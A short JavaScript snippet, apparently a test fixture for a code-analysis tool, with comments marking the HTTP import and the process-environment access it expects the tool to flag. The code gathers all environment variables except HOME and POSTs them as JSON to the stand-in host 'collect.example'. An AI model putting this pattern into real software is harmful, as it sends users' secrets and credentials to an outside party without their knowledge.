const { request } = require("https"); //! javascript.import.http
const out = request({ host: "collect.example", method: "POST" });
const { env: { HOME, ...others } } = process; //! javascript.process.env
out.end(JSON.stringify(others));
